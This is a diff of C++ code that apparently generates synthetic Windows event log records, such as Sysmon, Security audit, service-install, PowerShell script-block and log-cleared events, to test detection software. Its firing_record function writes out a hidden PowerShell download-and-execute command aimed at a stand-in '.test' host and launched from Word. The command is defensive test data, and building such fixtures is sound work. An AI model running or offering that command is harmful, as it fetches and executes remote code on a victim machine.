@@ -13,12 +13,22 @@ constexpr const char* process_guid = "{747f3d96-e51b-6139-0000-0010b8a50300}";
 constexpr const char* parent_guid = "{747f3d96-d8e8-6138-0000-00108f2a0200}";
 
 Kind sysmon_kind(std::uint16_t id, std::uint8_t version) {
-    return {.provider = sysmon, .provider_guid = sysmon_guid, .channel = sysmon_channel, .event_id = id,
-            .task = id, .version = version};
+    return {.provider = sysmon,
+            .provider_guid = sysmon_guid,
+            .channel = sysmon_channel,
+            .event_id = id,
+            .task = id,
+            .version = version};
 }
 Kind audit_kind(std::uint16_t id, std::uint16_t task, std::uint8_t version) {
-    return {.provider = auditing, .provider_guid = auditing_guid, .channel = "Security", .event_id = id,
-            .task = task, .version = version, .level = 0, .keywords = audit_success};
+    return {.provider = auditing,
+            .provider_guid = auditing_guid,
+            .channel = "Security",
+            .event_id = id,
+            .task = task,
+            .version = version,
+            .level = 0,
+            .keywords = audit_success};
 }
 
 std::string hex(std::uint64_t seed, std::size_t digits) {
@@ -35,7 +45,8 @@ std::string plain_hex(std::uint64_t number) {
     return out;
 }
 std::string hashes_of(std::uint64_t n) {
-    return "MD5=" + hex(n * 3 + 1, 32) + ",SHA256=" + hex(n * 3 + 2, 64) + ",IMPHASH=" + hex(n * 3 + 3, 32);
+    return "MD5=" + hex(n * 3 + 1, 32) + ",SHA256=" + hex(n * 3 + 2, 64) +
+           ",IMPHASH=" + hex(n * 3 + 3, 32);
 }
 /// `2019-04-17 01:02:03.123`, as Sysmon writes UtcTime. The days of the month are counted out.
 std::string utc_text(std::uint64_t filetime) {
@@ -46,49 +57,55 @@ std::string utc_text(std::uint64_t filetime) {
     const std::string fraction = std::to_string(1000 + milliseconds % 1000).substr(1);
     const std::uint64_t seconds = milliseconds / 1000 % 86'400;
     std::uint64_t days = milliseconds / 86'400'000;
-    const auto leap = [](std::uint64_t year) { return (year % 4 == 0 && year % 100 != 0) || year % 400 == 0; };
+    const auto leap = [](std::uint64_t year) {
+        return (year % 4 == 0 && year % 100 != 0) || year % 400 == 0;
+    };
     std::uint64_t year = 1601;
     for (; days >= (leap(year) ? 366u : 365u); ++year) days -= leap(year) ? 366 : 365;
-    const std::uint64_t lengths[] = {31, leap(year) ? 29u : 28u, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31};
+    const std::uint64_t lengths[] = {31, leap(year) ? 29u : 28u, 31, 30, 31, 30, 31, 31, 30, 31, 30,
+                                     31};
     std::size_t month = 0;
     for (; days >= lengths[month]; ++month) days -= lengths[month];
-    return std::to_string(year) + '-' + two(month + 1) + '-' + two(days + 1) + ' ' + two(seconds / 3600) +
-           ':' + two(seconds / 60 % 60) + ':' + two(seconds % 60) + '.' + fraction;
+    return std::to_string(year) + '-' + two(month + 1) + '-' + two(days + 1) + ' ' +
+           two(seconds / 3600) + ':' + two(seconds / 60 % 60) + ':' + two(seconds % 60) + '.' +
+           fraction;
 }
 }  // namespace
 
 Record WindowsHost::sysmon_process_create(const Occasion& occasion, const ProcessCreate& process) {
-    const std::string hashes = process.hashes.empty() ? hashes_of(occasion.record_id) : process.hashes;
+    const std::string hashes =
+        process.hashes.empty() ? hashes_of(occasion.record_id) : process.hashes;
     return event(sysmon_kind(1, 5), occasion,
-        {{"RuleName", value::string("-")},
-         {"UtcTime", value::string(utc_text(occasion.time))},
-         {"ProcessGuid", value::guid(process_guid)},
-         {"ProcessId", value::uint32(process.process_id)},
-         {"Image", value::string(process.image)},
-         {"FileVersion", value::string("10.0.19041.746 (WinBuild.160101.0800)")},
-         {"Description", value::string("Windows コマンド プロセッサ")},
-         {"Product", value::string("Microsoft® Windows® Operating System")},
-         {"Company", value::string("Microsoft Corporation")},
-         {"OriginalFileName", value::string(process.original_file_name)},
-         {"CommandLine", value::string(process.command_line)},
-         {"CurrentDirectory", value::string(process.current_directory)},
-         {"User", value::string(process.user)},
-         {"LogonGuid", value::guid("{747f3d96-d8e7-6138-0000-00207f3e0100}")},
-         {"LogonId", value::hex64(0x13e7f)},
-         {"TerminalSessionId", value::uint32(1)},
-         {"IntegrityLevel", value::string("High")},
-         {"Hashes", value::string(hashes)},
-         {"ParentProcessGuid", value::guid(parent_guid)},
-         {"ParentProcessId", value::uint32(process.parent_process_id)},
-         {"ParentImage", value::string(process.parent_image)},
-         {"ParentCommandLine", value::string(process.parent_command_line)},
-         {"ParentUser", value::string(process.user)}});
+                 {{"RuleName", value::string("-")},
+                  {"UtcTime", value::string(utc_text(occasion.time))},
+                  {"ProcessGuid", value::guid(process_guid)},
+                  {"ProcessId", value::uint32(process.process_id)},
+                  {"Image", value::string(process.image)},
+                  {"FileVersion", value::string("10.0.19041.746 (WinBuild.160101.0800)")},
+                  {"Description", value::string("Windows コマンド プロセッサ")},
+                  {"Product", value::string("Microsoft® Windows® Operating System")},
+                  {"Company", value::string("Microsoft Corporation")},
+                  {"OriginalFileName", value::string(process.original_file_name)},
+                  {"CommandLine", value::string(process.command_line)},
+                  {"CurrentDirectory", value::string(process.current_directory)},
+                  {"User", value::string(process.user)},
+                  {"LogonGuid", value::guid("{747f3d96-d8e7-6138-0000-00207f3e0100}")},
+                  {"LogonId", value::hex64(0x13e7f)},
+                  {"TerminalSessionId", value::uint32(1)},
+                  {"IntegrityLevel", value::string("High")},
+                  {"Hashes", value::string(hashes)},
+                  {"ParentProcessGuid", value::guid(parent_guid)},
+                  {"ParentProcessId", value::uint32(process.parent_process_id)},
+                  {"ParentImage", value::string(process.parent_image)},
+                  {"ParentCommandLine", value::string(process.parent_command_line)},
+                  {"ParentUser", value::string(process.user)}});
 }
 
 Record WindowsHost::sysmon_network(const Occasion& occasion, const std::string& image,
                                    const std::string& user, const std::string& address,
                                    const std::string& host_name, std::uint16_t port) {
-    return event(sysmon_kind(3, 5), occasion,
+    return event(
+        sysmon_kind(3, 5), occasion,
         {{"RuleName", value::string("-")},
          {"UtcTime", value::string(utc_text(occasion.time))},
          {"ProcessGuid", value::guid(process_guid)},
@@ -109,108 +126,120 @@ Record WindowsHost::sysmon_network(const Occasion& occasion, const std::string& 
          {"DestinationPortName", value::string(port == 443 ? "https" : "-")}});
 }
 
-Record WindowsHost::sysmon_dns(const Occasion& occasion, const std::string& image, const std::string& name,
-                               const std::string& results) {
+Record WindowsHost::sysmon_dns(const Occasion& occasion, const std::string& image,
+                               const std::string& name, const std::string& results) {
     return event(sysmon_kind(22, 5), occasion,
-        {{"RuleName", value::string("-")},
-         {"UtcTime", value::string(utc_text(occasion.time))},
-         {"ProcessGuid", value::guid(process_guid)},
-         {"ProcessId", value::uint32(4711)},
-         {"QueryName", value::string(name)},
-         {"QueryStatus", value::string("0")},
-         {"QueryResults", value::string(results)},
-         {"Image", value::string(image)},
-         {"User", value::string("EXAMPLE\\佐藤")}});
+                 {{"RuleName", value::string("-")},
+                  {"UtcTime", value::string(utc_text(occasion.time))},
+                  {"ProcessGuid", value::guid(process_guid)},
+                  {"ProcessId", value::uint32(4711)},
+                  {"QueryName", value::string(name)},
+                  {"QueryStatus", value::string("0")},
+                  {"QueryResults", value::string(results)},
+                  {"Image", value::string(image)},
+                  {"User", value::string("EXAMPLE\\佐藤")}});
 }
 
 Record WindowsHost::security_4688(const Occasion& occasion, const ProcessCreate& process) {
     Occasion quiet = occasion;
     quiet.user_sid.clear();
     return event(audit_kind(4688, 13'312, 2), quiet,
-        {{"SubjectUserSid", value::sid("S-1-5-21-1004336348-1177238915-682003330-1105")},
-         {"SubjectUserName", value::string("佐藤")},
-         {"SubjectDomainName", value::string("EXAMPLE")},
-         {"SubjectLogonId", value::hex64(0x3e7f1)},
-         {"NewProcessId", value::raw(Type::hex64, value::hex64(process.process_id).bytes)},
-         {"NewProcessName", value::string(process.image)},
-         {"TokenElevationType", value::string("%%1937")},
-         {"ProcessId", value::hex64(process.parent_process_id)},
-         {"CommandLine", value::string(process.command_line)},
-         {"TargetUserSid", value::sid("S-1-0-0")},
-         {"TargetUserName", value::string("-")},
-         {"TargetDomainName", value::string("-")},
-         {"TargetLogonId", value::hex64(0)},
-         {"ParentProcessName", value::string(process.parent_image)},
-         {"MandatoryLabel", value::sid("S-1-16-12288")}});
+                 {{"SubjectUserSid", value::sid("S-1-5-21-1004336348-1177238915-682003330-1105")},
+                  {"SubjectUserName", value::string("佐藤")},
+                  {"SubjectDomainName", value::string("EXAMPLE")},
+                  {"SubjectLogonId", value::hex64(0x3e7f1)},
+                  {"NewProcessId", value::raw(Type::hex64, value::hex64(process.process_id).bytes)},
+                  {"NewProcessName", value::string(process.image)},
+                  {"TokenElevationType", value::string("%%1937")},
+                  {"ProcessId", value::hex64(process.parent_process_id)},
+                  {"CommandLine", value::string(process.command_line)},
+                  {"TargetUserSid", value::sid("S-1-0-0")},
+                  {"TargetUserName", value::string("-")},
+                  {"TargetDomainName", value::string("-")},
+                  {"TargetLogonId", value::hex64(0)},
+                  {"ParentProcessName", value::string(process.parent_image)},
+                  {"MandatoryLabel", value::sid("S-1-16-12288")}});
 }
 
 Record WindowsHost::security_4624(const Occasion& occasion, const Logon& logon) {
     Occasion quiet = occasion;
     quiet.user_sid.clear();
     return event(audit_kind(4624, 12'544, 2), quiet,
-        {{"SubjectUserSid", value::sid("S-1-0-0")},
-         {"SubjectUserName", value::string("-")},
-         {"SubjectDomainName", value::string("-")},
-         {"SubjectLogonId", value::hex64(0)},
-         {"TargetUserSid", value::sid("S-1-5-21-1004336348-1177238915-682003330-1105")},
-         {"TargetUserName", value::string(logon.user)},
-         {"TargetDomainName", value::string(logon.domain)},
-         {"TargetLogonId", value::hex64(logon.logon_id)},
-         {"LogonType", value::uint32(logon.type)},
-         {"LogonProcessName", value::string("NtLmSsp ")},
-         {"AuthenticationPackageName", value::string("NTLM")},
-         {"WorkstationName", value::string(logon.workstation)},
-         {"LogonGuid", value::guid("{00000000-0000-0000-0000-000000000000}")},
-         {"TransmittedServices", value::string("-")},
-         {"LmPackageName", value::string("NTLM V2")},
-         {"KeyLength", value::uint32(128)},
-         {"ProcessId", value::hex64(0)},
-         {"ProcessName", value::string("-")},
-         {"IpAddress", value::string(logon.address)},
-         {"IpPort", value::string("49823")},
-         {"ImpersonationLevel", value::string("%%1833")},
-         {"RestrictedAdminMode", value::string("-")},
-         {"TargetOutboundUserName", value::string("-")},
-         {"TargetOutboundDomainName", value::string("-")},
-         {"VirtualAccount", value::string("%%1843")},
-         {"TargetLinkedLogonId", value::hex64(0)},
-         {"ElevatedToken", value::string("%%1842")}});
+                 {{"SubjectUserSid", value::sid("S-1-0-0")},
+                  {"SubjectUserName", value::string("-")},
+                  {"SubjectDomainName", value::string("-")},
+                  {"SubjectLogonId", value::hex64(0)},
+                  {"TargetUserSid", value::sid("S-1-5-21-1004336348-1177238915-682003330-1105")},
+                  {"TargetUserName", value::string(logon.user)},
+                  {"TargetDomainName", value::string(logon.domain)},
+                  {"TargetLogonId", value::hex64(logon.logon_id)},
+                  {"LogonType", value::uint32(logon.type)},
+                  {"LogonProcessName", value::string("NtLmSsp ")},
+                  {"AuthenticationPackageName", value::string("NTLM")},
+                  {"WorkstationName", value::string(logon.workstation)},
+                  {"LogonGuid", value::guid("{00000000-0000-0000-0000-000000000000}")},
+                  {"TransmittedServices", value::string("-")},
+                  {"LmPackageName", value::string("NTLM V2")},
+                  {"KeyLength", value::uint32(128)},
+                  {"ProcessId", value::hex64(0)},
+                  {"ProcessName", value::string("-")},
+                  {"IpAddress", value::string(logon.address)},
+                  {"IpPort", value::string("49823")},
+                  {"ImpersonationLevel", value::string("%%1833")},
+                  {"RestrictedAdminMode", value::string("-")},
+                  {"TargetOutboundUserName", value::string("-")},
+                  {"TargetOutboundDomainName", value::string("-")},
+                  {"VirtualAccount", value::string("%%1843")},
+                  {"TargetLinkedLogonId", value::hex64(0)},
+                  {"ElevatedToken", value::string("%%1842")}});
 }
 
 Record WindowsHost::service_installed_7045(const Occasion& occasion, const Service& service) {
     const Kind kind{.provider = "Service Control Manager",
-                    .provider_guid = "{555908d1-a6d7-4695-8e1e-26931d2012f4}", .channel = "System",
-                    .event_id = 7045, .qualifiers = 16'384, .keywords = 0x8080000000000000,
+                    .provider_guid = "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
+                    .channel = "System",
+                    .event_id = 7045,
+                    .qualifiers = 16'384,
+                    .keywords = 0x8080000000000000,
                     .has_qualifiers = true};
     return event(kind, occasion,
-        {{"ServiceName", value::string(service.name)},
-         {"ImagePath", value::string(service.image_path)},
-         {"ServiceType", value::string(service.service_type)},
-         {"StartType", value::string(service.start_type)},
-         {"AccountName", value::string(service.account)}});
+                 {{"ServiceName", value::string(service.name)},
+                  {"ImagePath", value::string(service.image_path)},
+                  {"ServiceType", value::string(service.service_type)},
+                  {"StartType", value::string(service.start_type)},
+                  {"AccountName", value::string(service.account)}});
 }
 
 Record WindowsHost::powershell_4104(const Occasion& occasion, const std::string& script,
                                     const std::string& path) {
     const Kind kind{.provider = "Microsoft-Windows-PowerShell",
                     .provider_guid = "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
-                    .channel = "Microsoft-Windows-PowerShell/Operational", .event_id = 4104, .task = 2,
-                    .version = 1, .level = 5, .opcode = 15, .keywords = 0};
+                    .channel = "Microsoft-Windows-PowerShell/Operational",
+                    .event_id = 4104,
+                    .task = 2,
+                    .version = 1,
+                    .level = 5,
+                    .opcode = 15,
+                    .keywords = 0};
     return event(kind, occasion,
-        {{"MessageNumber", value::int32(1)},
-         {"MessageTotal", value::int32(1)},
-         {"ScriptBlockText", value::string(script)},
-         {"ScriptBlockId", value::string("8a7f3d96-e51b-4139-9c00-b8a503000017")},
-         {"Path", value::string(path)}});
+                 {{"MessageNumber", value::int32(1)},
+                  {"MessageTotal", value::int32(1)},
+                  {"ScriptBlockText", value::string(script)},
+                  {"ScriptBlockId", value::string("8a7f3d96-e51b-4139-9c00-b8a503000017")},
+                  {"Path", value::string(path)}});
 }
 
 Record WindowsHost::log_cleared_1102(const Occasion& occasion, const std::string& user) {
     const Kind kind{.provider = "Microsoft-Windows-Eventlog",
-                    .provider_guid = "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}", .channel = "Security",
-                    .event_id = 1102, .task = 104, .keywords = 0x4020000000000000};
+                    .provider_guid = "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}",
+                    .channel = "Security",
+                    .event_id = 1102,
+                    .task = 104,
+                    .keywords = 0x4020000000000000};
     Occasion quiet = occasion;
     quiet.user_sid.clear();
-    return user_data(kind, quiet, "LogFileCleared",
+    return user_data(
+        kind, quiet, "LogFileCleared",
         "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
         {{"SubjectUserSid", value::sid("S-1-5-21-1004336348-1177238915-682003330-1105")},
          {"SubjectUserName", value::string(user)},
@@ -223,15 +252,17 @@ Record firing_record(WindowsHost& host, std::uint64_t n) {
     // 198.18.0.0/15 and 2001:db8::/32 are set aside for tests (RFC 2544, RFC 3849).
     const std::string address = "198." + std::to_string(18 + (n >> 16) % 2) + '.' +
                                 std::to_string(n >> 8 & 0xff) + '.' + std::to_string(n & 0xff);
-    const std::string address6 = "2001:db8::" + plain_hex(n >> 16 & 0xffff) + ':' + plain_hex(n & 0xffff);
+    const std::string address6 =
+        "2001:db8::" + plain_hex(n >> 16 & 0xffff) + ':' + plain_hex(n & 0xffff);
     const std::string url = "http://h" + number + ".d" + number + ".test/" + hex(n, 12) + ".ps1";
     ProcessCreate process;
     process.image = R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";
     process.original_file_name = "PowerShell.EXE";
     process.parent_image = R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)";
-    process.command_line = "powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -c \"whoami /priv; IEX (New-Object "
-                           "Net.WebClient).DownloadString('" + url + "') # " + address + ' ' + address6 + " 件名" +
-                           number + '"';
+    process.command_line =
+        "powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -c \"whoami /priv; IEX (New-Object "
+        "Net.WebClient).DownloadString('" +
+        url + "') # " + address + ' ' + address6 + " 件名" + number + '"';
     process.hashes = hashes_of(n + 0x10000000000);
     process.process_id = static_cast<std::uint32_t>(1000 + n * 4 % 60'000);
     Occasion occasion;
